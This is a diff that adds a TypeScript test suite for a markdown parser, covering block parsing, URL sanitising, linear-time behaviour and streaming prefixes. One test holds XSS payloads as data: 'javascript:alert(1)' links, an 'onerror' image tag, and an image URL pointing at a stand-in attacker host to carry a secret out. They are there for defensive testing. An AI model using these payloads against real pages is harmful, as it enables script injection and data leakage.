@@ -1,0 +1,56 @@
+import { expect } from '@open-wc/testing';
+import fc from 'fast-check';
+import { parseBlocks, parseInline, safeUrl, settledLength } from './parse.js';
+
+describe('markdown parser', () => {
+  it('parses headings, paragraphs, lists, quotes, code, tables and rules', () => {
+    const blocks = parseBlocks('# Title\n\nSome *em* and **strong** and `code`.\n\n- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n```ts\nconst a = 1;\n```\n\n| A | B |\n|:--|--:|\n| 1 | 2 |\n\n---');
+    expect(blocks.map((b) => b.t)).to.deep.equal(['h', 'p', 'list', 'list', 'quote', 'code', 'table', 'hr']);
+    expect(blocks[1]).to.deep.equal({ t: 'p', inline: ['Some ', { t: 'em', children: ['em'] }, ' and ', { t: 'strong', children: ['strong'] }, ' and ', { t: 'code', text: 'code' }, '.'] });
+    const list = blocks[2] as { items: { t: string }[][] };
+    expect(list.items).to.have.length(2);
+    expect(list.items[1]!.map((b) => b.t)).to.deep.equal(['p', 'list']);
+    expect(blocks[3]).to.include({ ordered: true, start: 1 });
+    expect(blocks[5]).to.deep.equal({ t: 'code', lang: 'ts', text: 'const a = 1;' });
+    expect(blocks[6]).to.deep.include({ align: ['start', 'end'] });
+  });
+
+  it('keeps only http(s) links, and never turns HTML into anything but text', () => {
+    expect(safeUrl('javascript:alert(1)')).to.equal(null);
+    expect(safeUrl('JaVaScRiPt:alert(1)')).to.equal(null);
+    expect(safeUrl('data:text/html,x')).to.equal(null);
+    expect(safeUrl('/relative')).to.equal(null);
+    expect(safeUrl(' https://example.com/a b ')).to.equal('https://example.com/a%20b');
+    expect(safeUrl('https://example.com/?q=1')).to.equal('https://example.com/?q=1');
+    expect(parseInline('[x](javascript:alert%281%29)')).to.deep.equal([{ t: 'link', href: null, children: ['x'] }]);
+    expect(parseInline('[x](javascript:alert(1))')).to.deep.equal(['[x](javascript:alert(1))']);
+    expect(parseInline('<img src=x onerror=alert(1)>')).to.deep.equal(['<img src=x onerror=alert(1)>']);
+    expect(parseInline('![secret](https://attacker.example/?q=secret)')).to.deep.equal([{ t: 'image', alt: 'secret', href: 'https://attacker.example/?q=secret' }]);
+  });
+
+  it('links bare URLs without trailing punctuation, and keeps snake_case words', () => {
+    expect(parseInline('see https://example.com/x.')).to.deep.equal(['see ', { t: 'link', href: 'https://example.com/x', children: ['https://example.com/x'] }, '.']);
+    expect(parseInline('a snake_case_name')).to.deep.equal(['a snake_case_name']);
+    expect(parseInline('\\*not em\\*')).to.deep.equal(['*not em*']);
+  });
+
+  it('stays linear on hostile input', () => {
+    const start = performance.now();
+    parseBlocks('*'.repeat(50_000) + '['.repeat(20_000) + '`'.repeat(20_000));
+    expect(performance.now() - start).to.be.below(2_000);
+  });
+
+  const line = fc.constantFrom('# Heading', 'Some *text* here', '- item', '  - nested', '1. first', '> quote', '```', 'code line', '| a | b |', '|---|---|', '---', '', '', 'plain', '    indented');
+  it('settled prefixes parse to the same blocks as the whole text', () => {
+    fc.assert(
+      fc.property(fc.array(line, { maxLength: 30 }), fc.nat(), (lines, cut) => {
+        const text = lines.join('\n');
+        const prefix = text.slice(0, cut % (text.length + 1));
+        const settled = settledLength(prefix);
+        expect(parseBlocks(text.slice(0, settled)).concat(parseBlocks(text.slice(settled)))).to.deep.equal(parseBlocks(text));
+        expect(settledLength(prefix, settledLength(prefix.slice(0, settled)))).to.equal(settled);
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
